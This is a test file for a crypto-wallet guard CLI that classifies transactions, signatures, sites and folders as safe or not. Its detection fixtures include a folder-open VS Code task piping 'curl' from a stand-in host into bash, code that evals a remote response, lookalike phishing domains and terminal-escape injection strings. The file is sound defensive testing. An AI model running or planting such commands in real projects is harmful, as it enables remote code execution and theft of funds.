import { existsSync, mkdirSync, readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import { guardDocument } from '../../server/index.ts'
import { createBench } from './guard.support.ts'

const bench = createBench()
const USDT = '0xdAC17F958D2ee523a2206206994597C13D831ec7'
const STRANGER = '0x1111111111111111111111111111111111111111'
const approve = (spender: string): string => `0x095ea7b3${spender.slice(2).padStart(64, '0')}${'f'.repeat(64)}`
/** An EIP-155 payment, signed. @source https://eips.ethereum.org/EIPS/eip-155 */
const RAW =
  '0xf86c098504a817c800825208943535353535353535353535353535353535353535880de0b6b3a76400008025a028ef61340bd939bc2195fe537567866003e1a15d3c71ff63e1590620aa636276a067cbe9d8997f761aecb703304b3800ccf555c9f3dc64214b297fb1966a3b6d83'
const permit = {
  types: {
    Permit: ['owner', 'spender', 'value', 'nonce', 'deadline'].map((name, i) => ({
      name,
      type: i < 2 ? 'address' : 'uint256',
    })),
  },
  primaryType: 'Permit',
  domain: { name: 'USD Coin', chainId: 1, verifyingContract: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' },
  message: { owner: STRANGER, spender: `0x${'2'.repeat(40)}`, value: '1', nonce: 0, deadline: 1 },
}
const draft = {
  from: `0x${'3'.repeat(40)}`,
  to: USDT,
  value: '0x0',
  data: approve(STRANGER),
  chainId: 1,
  gas: '0x5208',
}
const ONES = `0x${'11'.repeat(20)}`
const safe = { safe: STRANGER, to: USDT, value: '0', data: null, operation: 0, nonce: 4, chainId: 1, version: '1.4.1' }
const signIn = `app.example.org wants you to sign in with your Ethereum account:\n${STRANGER}\n\nURI: https://app.example.org`

describe('lazaretto check', () => {
  const things: [what: string, text: string, first: string, code: number, more?: string[]][] = [
    ['a URL', 'https://metamask.io.example.net/x', 'web address https://metamask.io.example.net/x', 3],
    ['a host', 'app.uniswap.org', 'web address app.uniswap.org', 5],
    ['an IP address', '203.0.113.7', 'web address 203.0.113.7', 5],
    ['an EVM address', STRANGER, `address ${STRANGER}`, 5],
    ['a Bitcoin address', 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4', 'address bc1q', 5],
    ['a raw transaction', RAW, 'transaction to 0x3535', 0],
    ['one without 0x', RAW.slice(2), 'transaction to 0x3535', 0],
    ['calldata', approve(STRANGER), `transaction to ${USDT}`, 4, ['--to', USDT]],
    ['transaction JSON', JSON.stringify(draft), `transaction to ${USDT}`, 4],
    ['typed data', JSON.stringify(permit), 'typed data Permit', 4],
    ['a Safe record', JSON.stringify(safe), `Safe: a transaction of ${STRANGER}`, 0],
    ['a list of them', JSON.stringify({ results: [safe] }), 'Safe: a transaction of', 0],
    ['a delegation', JSON.stringify({ chainId: 0, address: ONES, nonce: 0 }), 'message a delegation', 3],
    [
      'one as libraries write it',
      JSON.stringify({ chainId: '0x1', contractAddress: ONES, nonce: '0x7' }),
      'message',
      3,
    ],
    ['a message', 'I agree to everything', 'message a text', 0],
    ['a sign-in', signIn, 'message a text', 5],
  ]

  it.each(things)('knows %s', async (_, text, first, code, more = []) => {
    const given = await bench.run(['check', text, ...more])
    expect(given.out.split('\n')[0]).toContain(first)
    expect(given.code).toBe(code)
    const piped = await bench.run(['check', '-', ...more], { input: `${text}\n` })
    const read = await bench.run(['check', bench.file('thing', text), ...more])
    expect([piped.out, read.out]).toEqual([given.out, given.out])
    expect(guardDocument.safeParse(await bench.json(['check', text, ...more])).error).toBeUndefined()
  })

  it('knows a folder', async () => {
    const folder = join(bench.folder, 'repository')
    mkdirSync(join(folder, '.vscode'), { recursive: true })
    const task = {
      label: 'x',
      type: 'shell',
      command: 'curl -s https://a.test | bash',
      runOptions: { runOn: 'folderOpen' },
    }
    bench.file('repository/.vscode/tasks.json', JSON.stringify({ version: '2.0.0', tasks: [task] }))
    bench.file('repository/a.js', 'axios.get(u).catch((error) => { eval(error.response.data) })')
    const given = await bench.run(['check', folder])
    expect(given.out).toContain(`repository ${folder}`)
    expect(given.out).toMatch(/kinds of sign +PIPE_TO_SHELL, REMOTE_CODE, RUNS_ON_OPEN/)
    expect(given.code).toBe(3)
    expect(guardDocument.safeParse(await bench.json(['check', folder])).error).toBeUndefined()
  })

  const request = (method: string, ...params: unknown[]): string => JSON.stringify({ id: 1, method, params })
  const requests: [what: string, text: string, first: string][] = [
    ['a payment', request('eth_sendTransaction', draft), `transaction to ${USDT}`],
    ['one sent raw', request('eth_sendRawTransaction', RAW), 'transaction to 0x3535'],
    ['a message', request('personal_sign', '0x48656c6c6f', STRANGER), 'message a text'],
    ['typed data', request('eth_signTypedData_v4', STRANGER, permit), 'typed data Permit'],
    ['typed data as text', request('eth_signTypedData_v4', STRANGER, JSON.stringify(permit)), 'typed data Permit'],
    ['one of WalletConnect', `{"params":{"request":${request('eth_sendTransaction', draft)}}}`, 'transaction to'],
  ]
  it.each(requests)('knows what a site asks a wallet: %s', async (_, text, first) => {
    expect((await bench.run(['check', text])).out.split('\n')[0]).toContain(first)
  })

  it('looks at the sites that a text names', async () => {
    const mail =
      'Dear user, visit https://metamask-verify.pages.dev/restore, or metamask-help.com. See README of example.org.'
    const { out, code } = await bench.run(['check', mail])
    expect(out).toMatch(/block +LOOKALIKE_COMBINED at https:\/\/metamask-verify\.pages\.dev\/restore\n/)
    expect(out).toMatch(/review +LOOKALIKE_COMBINED at metamask-help\.com\n/)
    expect(out).toMatch(/note +LINKS_UNLISTED\n +It names example\.org,/)
    expect(code).toBe(3)
    const bytes = `0x${Buffer.from(mail).toString('hex')}`
    expect((await bench.run(['guard', 'message', bytes])).code).toBe(3)
    expect((await bench.run(['check', 'Welcome to app.uniswap.org. It costs 1.5 ETH, e.g. nothing.'])).code).toBe(0)
  })

  it('takes one thing at a time, and does not make a harmless text of several', async () => {
    const { code, out, err } = await bench.run(['check', 'https://metamask-login.pages.dev', 'https://example.org'])
    expect([code, out]).toEqual([2, ''])
    expect(err).toContain('too many arguments')
  })

  it.each([
    ['example.invalidtld', 'http://example.invalidtld'],
    ['vitalik.eth', 'stands for an address'],
    ['bitcoin:bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4?amount=1', 'Give the address'],
  ])('says of %s what to give', async (text, what) => {
    expect((await bench.run(['check', text])).err).toContain(what)
  })

  const refused: [what: string, text: string, code: string][] = [
    ['nothing', ' ', 'LZ_GUARD_EMPTY'],
    ['a word', 'hello', 'LZ_GUARD_UNKNOWN'],
    ['a file that is not there', 'missing.txt', 'LZ_GUARD_UNKNOWN'],
    ['JSON of something else', '{"a":1}', 'LZ_GUARD_UNKNOWN'],
    ['JSON that is cut', '{"to":"0x', 'LZ_GUARD_JSON'],
    ['JSON without an end', `${'['.repeat(100)}${']'.repeat(100)}`, 'LZ_GUARD_JSON'],
    ['a hash', `0x${'ab'.repeat(32)}`, 'LZ_GUARD_AMBIGUOUS'],
    ['calldata for nobody', approve(STRANGER), 'LZ_GUARD_AMBIGUOUS'],
    ['a key', 'ab'.repeat(32), 'LZ_SECRET'],
    ['a recovery phrase', 'legal winner thank year wave sausage worth useful legal winner thank yellow', 'LZ_SECRET'],
    ['an address with a slip', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD', 'LZ_ADDRESS_CHECKSUM'],
  ]
  it.each(refused)('refuses %s, and does not say a secret again', async (_, text, code) => {
    const { code: exit, err, out } = await bench.run(['check', text])
    expect([exit, out]).toEqual([1, ''])
    expect(err).toContain(`error ${code}: `)
    if (code === 'LZ_SECRET') expect(err).not.toContain(text.slice(0, 12))
  })

  it('does not take what is signed for something of a chain where it cannot be', async () => {
    for (const chain of ['bitcoin', 'eip155:99999999999999999999']) {
      const { code, err, out } = await bench.run(['check', approve(STRANGER), '--to', USDT, '--chain', chain])
      expect([code, out]).toEqual([1, ''])
      expect(err).toContain(`error LZ_GUARD_CHAIN: ${chain} is no EVM chain`)
    }
  })

  it('does not guess between a file and a site', async () => {
    const before = process.cwd()
    bench.file('example.org', 'x y')
    process.chdir(bench.folder)
    try {
      expect((await bench.run(['check', 'example.org'])).err).toContain('LZ_GUARD_AMBIGUOUS')
      expect((await bench.run(['check', './example.org'])).out).toContain('message')
      expect((await bench.run(['check', 'https://example.org/'])).out).toContain('web address')
    } finally {
      process.chdir(before)
    }
  })

  it('lets nothing from outside reach the terminal as it is', async () => {
    const evil = 'hello \u001b[2J\u202e world \u0007\u200b'
    for (const text of [
      evil,
      JSON.stringify({ ...permit, primaryType: 'Permit' }).replace('USD Coin', evil.slice(6)),
      `https://evil.test/\u001b[2J`,
    ]) {
      const { out, err } = await bench.run(['check', text])
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not come through
      expect(out + err).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e]/)
    }
  })

  it('answers any text with a verdict or an error of its own', async () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.json({ maxDepth: 4 }),
      fc.uint8Array({ maxLength: 200 }).map((bytes) => `0x${Buffer.from(bytes).toString('hex')}`),
      fc.webUrl({ withQueryParameters: true }),
      fc
        .tuple(fc.constantFrom(...Object.keys(draft)), fc.jsonValue())
        .map(([key, value]) => JSON.stringify({ ...draft, [key]: value })),
      fc
        .tuple(fc.constantFrom(...Object.keys(safe)), fc.jsonValue())
        .map(([key, value]) => JSON.stringify({ ...safe, [key]: value })),
    )
    const codes =
      /^error LZ_(SECRET|GUARD_(EMPTY|UNKNOWN|AMBIGUOUS|JSON|TRANSACTION|TYPED_DATA|MESSAGE|URL|SAFE_FIELD|SAFE_LIMIT|SAFE_RECORD)|ADDRESS_\w+): /
    await fc.assert(
      fc.asyncProperty(text, async (given) => {
        const { code, out, err } = await bench.run(['check', '-'], { input: given })
        if (code === 1) expect(err).toMatch(codes)
        else expect([0, 3, 4, 5]).toContain(code)
        expect(out === '').toBe(code === 1)
      }),
      { numRuns: 300 },
    )
  })
})

it('docs/guard.schema.json is made from the code', () => {
  const schema: unknown = JSON.parse(readFileSync(resolve('docs/guard.schema.json'), 'utf8'))
  expect(schema).toEqual(z.toJSONSchema(guardDocument, { io: 'input' }))
})

const bybit = resolve('../shared/data/signing/bybit-safe-transactions.json')
if (!existsSync(bybit)) console.warn(`SKIPPED the Safe transactions of February 2025: no ${bybit}`)

describe.runIf(existsSync(bybit))('the Safe transactions of February 2025', () => {
  it('are told apart, each for its reasons', async () => {
    const { code, out } = await bench.run(['check', bybit])
    expect(code).toBe(3)
    expect(out).toContain('slot 0')
    const document = await bench.json(['guard', 'safe', bybit])
    expect(guardDocument.safeParse(document).error).toBeUndefined()
    if (document.kind !== 'safe') return expect.fail()
    expect(document.transactions.map(({ verdict }) => verdict)).toEqual([
      'block',
      'block',
      ...Array<string>(5).fill('no-match'),
    ])
    const codesOf = (i: number) =>
      document.transactions[i]?.findings.filter(({ effect }) => effect === 'block').map(({ code: each }) => each)
    expect(codesOf(0)).toEqual(['DELEGATECALL_UNKNOWN', 'DELEGATECALL_DISGUISED'])
    expect(codesOf(1)).toEqual(['SIGNATURE_FOREIGN', 'SIGNATURE_FOREIGN', 'SIGNATURE_FOREIGN'])
    for (const { statedHash, hashes } of document.transactions) expect(hashes?.safeTx).toBe(statedHash)
  })

  it('are compared with what a device shows', async () => {
    const { txs } = JSON.parse(readFileSync(bybit, 'utf8')) as { txs: Record<string, unknown>[] }
    const record = { ...txs[2], safe: '0x1Db92e2EeBC8E0c075a02BeA49a2935BcD2dFCF4', version: '1.1.1', chainId: 1 }
    const path = bench.file('benign.json', JSON.stringify(record))
    const hash = String(txs[2]?.['safeTxHash'])
    expect((await bench.run(['guard', 'safe', path, '--device-hash', hash])).code).toBe(0)
    const other = await bench.run(['guard', 'safe', path, '--device-hash', String(txs[0]?.['safeTxHash'])])
    expect([other.code, other.out.includes('DEVICE_OTHER')]).toEqual([3, true])
    expect((await bench.run(['guard', 'safe', path, '--device-hash', '0x12'])).code).toBe(2)
    const stranger = await bench.run(['guard', 'safe', path, '--owners', `${STRANGER},${USDT}`, '--threshold', '2'])
    expect([stranger.code, stranger.out.includes('SIGNATURE_NOT_OWNER')]).toEqual([3, true])
  })
})
